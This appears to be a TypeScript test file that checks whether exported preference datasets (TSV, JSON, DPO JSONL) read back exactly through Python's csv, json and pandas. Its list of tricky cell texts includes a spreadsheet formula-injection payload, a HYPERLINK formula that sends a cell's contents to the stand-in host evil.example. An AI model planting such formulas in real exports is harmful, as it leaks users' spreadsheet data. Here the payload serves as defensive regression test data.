// The dataset files read back by the tools their users read them with: Debian's python3, its csv and json modules and
// pandas (readback.py), and compared field by field, row by row, with what was written. The texts are the ones that
// broke them before (issue 16, finding 5): a prompt starting with a double quote (csv and pandas saw 3 of 4 rows),
// formulas (=HYPERLINK ran in a spreadsheet), U+2028 and U+0085 (splitlines() saw 6 lines for 4 DPO records), and every
// other separator, quote and look-alike of a missing value.
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';
import { encodeUtf8 } from '@tt/protocol';
import { CONFIRM, SWITCH, type Conversation, type Hex } from '../model.ts';
import { COLUMNS, flattenRow, toDpoJsonl, toDpoRecords, toJson, toTsv, type FlatRow } from './formats.ts';
import { buildDatasetRows } from './rows.ts';
import { tsvCellText } from './serialize.ts';

/** Debian's interpreter (not a pyenv or venv one): the python3 a user of this machine reads files with. */
const PYTHON = process.env.TT_PYTHON ?? '/usr/bin/python3';
const havePython = existsSync(PYTHON);
const havePandas =
  havePython &&
  (() => {
    try {
      execFileSync(PYTHON, ['-c', 'import pandas'], { stdio: 'ignore' });
      return true;
    } catch {
      return false;
    }
  })();
const pythonNote = havePython ? '' : ` [SKIPPED: no ${PYTHON}: apt-get install python3]`;
const pandasNote = !havePython
  ? pythonNote
  : havePandas
    ? ''
    : ` [SKIPPED: pandas is not installed for ${PYTHON}: apt-get install python3-pandas]`;

const MODEL = ('0x' + 'cd'.repeat(32)) as Hex;
const A = ('0x' + 'a1'.repeat(20)) as Hex;
const B = ('0x' + 'b2'.repeat(20)) as Hex;

// Every text a cell must carry unchanged.
const TEXTS = [
  '"Quoted," she said, "at the very start."',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '+1+1',
  '-2 apples',
  '@SUM(A1:A9)',
  '\t=1+1 behind a tab',
  '\r=1+1 behind a carriage return',
  "'apostrophe first",
  "''two apostrophes",
  'tab\there and "quotes" inside',
  'line one\nline two\r\nline three\rline four',
  'line\u2028separator\u2029paragraph\u0085next-line\u000bvertical\u000cform\u001cfile',
  'NA',
  'null',
  'nan',
  'None',
  '#N/A',
  '',
  ' ',
  '  padded both sides  ',
  'back\\slash \\n not a newline \\t',
  'été — 数字 — 🐉 — \u200b zero width',
  'x'.repeat(10_000),
];
const INVALID_UTF8 = Uint8Array.from([0x4f, 0x6e, 0x63, 0x65, 0xff, 0xe4, 0xb8]);

function conversationsWith(texts: string[]): Conversation[] {
  const out: Conversation[] = [];
  for (let i = 0; i < texts.length; i++) {
    const id = BigInt(i);
    const prompt = texts[i]!;
    const chosen = texts[(i + 1) % texts.length]!;
    const rejected = i === 3 ? INVALID_UTF8 : encodeUtf8(texts[(i + 5) % texts.length]!);
    out.push({
      id,
      inputIndex: i * 2 + 1,
      author: A,
      prompt: encodeUtf8(prompt),
      params: { steps: 256, temperatureMilli: i % 3 === 0 ? 0 : 800, topPMilli: 900 },
      modelHash: MODEL,
      promptedAt: 1_700_000_000 + i,
      responses: [
        {
          responseIndex: 0,
          bytes: encodeUtf8(chosen),
          seed: 18_446_744_073_709_551_615n - id,
          modelHash: MODEL,
          postedAt: 1_700_000_100,
        },
        { responseIndex: 1, bytes: rejected, seed: id, modelHash: MODEL, postedAt: 1_700_000_200 + i },
      ],
      // every shape of row: unranked, one ranker, two rankers who disagree
      rankings:
        i % 3 === 0
          ? []
          : i % 3 === 1
            ? [{ ranker: A, order: SWITCH, rankedAt: 1_700_000_300 }]
            : [
                { ranker: A, order: CONFIRM, rankedAt: 1_700_000_300 },
                { ranker: B, order: SWITCH, rankedAt: 1_700_000_400 },
              ],
    });
  }
  return out;
}

const { rows } = buildDatasetRows(conversationsWith(TEXTS), {
  verified: new Map(TEXTS.map((_, i) => [String(i), i % 2 === 0])),
});
const flat = rows.map(flattenRow);
/** A flat row as text cells: what TSV carries (null is the empty cell). */
const asCells = (r: FlatRow) => COLUMNS.map((c) => (r[c] === null ? '' : String(r[c])));

const dir = mkdtempSync(join(tmpdir(), 'tt-export-python-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

interface Table {
  columns: string[];
  dtypes: Record<string, string>;
  rows: (string | boolean | null)[][];
}
interface ReadBack {
  csv: string[][];
  json: Record<string, unknown>[];
  jsonl: Record<string, unknown>[];
  pandas: { version: string; naValues: string[]; default: Table; exact: Table } | null;
}

let readBack: ReadBack;
function read(): ReadBack {
  if (readBack) return readBack;
  writeFileSync(join(dir, 'dataset.tsv'), toTsv(rows));
  writeFileSync(join(dir, 'dataset.json'), toJson(rows));
  writeFileSync(join(dir, 'dataset.jsonl'), toDpoJsonl(rows));
  const script = fileURLToPath(new URL('./readback.py', import.meta.url));
  readBack = JSON.parse(
    execFileSync(PYTHON, [script, dir], { encoding: 'utf8', maxBuffer: 64 << 20 }),
  ) as ReadBack;
  return readBack;
}

describe.skipIf(!havePython)(`the dataset files read back with Debian's python3${pythonNote}`, () => {
  it('has rows of every shape, and every tricky text in a prompt, a chosen and a rejected cell', () => {
    expect(rows.length).toBeGreaterThan(TEXTS.length);
    for (const t of TEXTS) {
      expect(flat.some((r) => r.prompt === t)).toBe(true);
      expect(flat.some((r) => r.chosen === t || r.rejected === t)).toBe(true);
    }
  });

  it("TSV through csv.reader(delimiter='\\t'): the header, then every field of every row as written", () => {
    const [header, ...body] = read().csv;
    expect(header).toEqual([...COLUMNS]);
    expect(body).toHaveLength(rows.length);
    body.forEach((cells, i) => expect(cells.map(tsvCellText), `row ${i}`).toEqual(asCells(flat[i]!)));
  });

  it('JSON through json.load: every field of every row, with its type', () => {
    expect(read().json).toEqual(JSON.parse(JSON.stringify(flat)));
  });

  it('DPO JSONL through splitlines() and json.loads: one line per record, every field', () => {
    const records = toDpoRecords(rows);
    expect(read().jsonl).toHaveLength(records.length);
    expect(read().jsonl).toEqual(JSON.parse(JSON.stringify(records)));
  });
});

describe.skipIf(!havePandas)(`the TSV read back with pandas${pandasNote}`, () => {
  it("pandas.read_csv(sep='\\t', dtype=str, keep_default_na=False): every field of every row as written", () => {
    const exact = read().pandas!.exact;
    expect(exact.columns).toEqual([...COLUMNS]);
    expect(exact.rows).toHaveLength(rows.length);
    exact.rows.forEach((cells, i) =>
      expect(
        cells.map((c) => tsvCellText(c as string)),
        `row ${i}`,
      ).toEqual(asCells(flat[i]!)),
    );
  });

  it("pandas.read_csv(sep='\\t') with every default: every row and column; texts as written, numbers and flags typed", () => {
    const { default: table, version, naValues } = read().pandas!;
    expect(table.columns).toEqual([...COLUMNS]);
    expect(table.rows).toHaveLength(rows.length);
    // pandas' default missing-value markers (its own list): these texts, and only these, come back as NaN
    const NA = new Set(['', ...naValues]);
    table.rows.forEach((cells, i) => {
      const source = flat[i]!;
      COLUMNS.forEach((column, k) => {
        const got = cells[k];
        const want = source[column];
        const where = `row ${i} ${column} (pandas ${version}, ${table.dtypes[column]})`;
        if (want === null || (typeof want === 'string' && NA.has(want))) expect(got, where).toBeNull();
        else if (typeof want === 'boolean') expect(got, where).toBe(want);
        else if (typeof got === 'string' && typeof want === 'string')
          expect(tsvCellText(got), where).toBe(want);
        else expect(BigInt(String(got).replace(/\.0$/, '')), where).toBe(BigInt(want));
      });
    });
  });
});
